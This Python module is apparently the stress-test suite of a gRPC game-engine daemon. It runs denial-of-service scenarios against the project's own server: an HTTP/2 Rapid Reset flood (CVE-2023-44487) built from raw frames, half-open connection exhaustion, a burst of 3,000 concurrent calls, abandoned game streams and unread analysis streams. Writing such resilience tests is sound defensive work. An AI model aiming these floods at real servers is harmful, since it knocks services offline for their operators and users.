"""Connections and streams by the hundred."""

import contextlib
from typing import Any

import grpc

from plyd.clients.stress.attacks.http2 import (
    CANCEL,
    END_HEADERS,
    HEADERS,
    PREFACE,
    RST_STREAM,
    RawConnection,
    frame,
    headers,
)
from plyd.clients.stress.attacks.scene import Attack, Scene
from plyd.v1 import engine_pb2, engine_pb2_grpc
from plyd.v1.position_pb2 import Position
from plyd.v1.search_pb2 import Limits

DESCRIBE = "/plyd.v1.EngineService/Describe"
PLAY = "/plyd.v1.EngineService/Play"
STREAMS_AT_ONCE = 200  # that are written together


class Nobody(Attack):
    """Nothing: what the honest caller sees alone, to compare with."""

    name = "nobody"

    def run(self, scene: Scene) -> None:
        """Send nothing."""


class RapidReset(Attack):
    """Streams without a token on one connection, each reset as soon as it is opened (CVE-2023-44487)."""

    name = "rapid-reset"

    def run(self, scene: Scene) -> None:
        """Open and reset as fast as the daemon reads; begin a new connection if it closes this one."""
        block, connection, stream = headers(DESCRIBE), RawConnection(scene.daemon.target), 1
        for _ in scene.rounds(2000):
            pairs = b"".join(
                frame(HEADERS, END_HEADERS, number, block) + frame(RST_STREAM, 0, number, CANCEL)
                for number in range(stream, stream + 2 * STREAMS_AT_ONCE, 2)
            )
            connection.send(pairs)
            stream += 2 * STREAMS_AT_ONCE
            scene.sent["stream"] += STREAMS_AT_ONCE
            scene.heard["ended stream"] += connection.read()
            if not connection.is_open:
                scene.heard["closed"] += 1
                connection.close()
                connection, stream = RawConnection(scene.daemon.target), 1
        connection.close()


class HalfOpen(Attack):
    """500 TCP connections that send nothing, or half of HTTP/2's preface, and stay."""

    name = "half-open"

    def run(self, scene: Scene) -> None:
        """Open all; they stay open until the end of the scene."""
        for number in scene.rounds(500):
            connection = RawConnection(scene.daemon.target, b"" if number % 2 else PREFACE[:10])
            scene.stack.callback(connection.close)
            scene.sent["connection"] += 1


class Crowd(Attack):
    """3,000 trivial calls at once over 20 connections; those that are refused must be told so, with a hint."""

    name = "crowd"
    patience_seconds = 60.0  # a call that has heard nothing by then is lost

    def run(self, scene: Scene) -> None:
        """Send all before reading any answer."""
        calls = [scene.channel().unary_unary(DESCRIBE) for _ in range(20)]
        metadata = scene.metadata("greedy")

        def send(number: int) -> Any:
            return calls[number % len(calls)].future(b"", metadata=metadata, timeout=self.patience_seconds)

        scene.flood("Describe", 3000, send, at_once=3000)
        if unheard := scene.heard.total() - scene.heard["OK"] - scene.heard["RESOURCE_EXHAUSTED"]:
            scene.broken.append(f"{unheard} calls were neither answered nor refused with RESOURCE_EXHAUSTED")


class DroppedGames(Attack):
    """Play streams, each dropped as soon as its game has begun, 20 at once."""

    name = "dropped-games"

    def run(self, scene: Scene) -> None:
        """Open games and leave them."""
        play, metadata = scene.channel().stream_stream(PLAY), scene.metadata("greedy")
        begin = engine_pb2.PlayRequest(
            id=1, new_game=engine_pb2.NewGameCommand(position=Position(game="connect4"))
        ).SerializeToString()
        games: list[Any] = []
        for _ in scene.rounds(5000):
            games.append(play(iter([begin]), metadata=metadata, timeout=scene.timeout))
            scene.sent["game"] += 1
            if len(games) == 20:
                drop(games, scene)
        drop(games, scene)


def drop(games: list[Any], scene: Scene) -> None:
    """Cancel all games after the first answer of each."""
    for game in games:
        with contextlib.suppress(grpc.RpcError, StopIteration):
            next(game)
            scene.heard["begun"] += 1
        game.cancel()
    games.clear()


class SlowReaders(Attack):
    """100 analyses with a limit of a second each, of which nobody reads a report."""

    name = "slow-readers"

    def run(self, scene: Scene) -> None:
        """Open all, then wait."""
        engine: Any = engine_pb2_grpc.EngineServiceStub(scene.channel())
        request = engine_pb2.AnalyzeRequest(
            position=Position(game="2584-2x3"), options={"method": "expectimax"}, limits=Limits(move_time_ms=1000)
        )
        streams = [
            engine.Analyze(request, metadata=scene.metadata("greedy"), timeout=scene.timeout) for _ in scene.rounds(100)
        ]
        scene.sent["Analyze"] += len(streams)
        scene.wait()
        for stream in streams:
            stream.cancel()
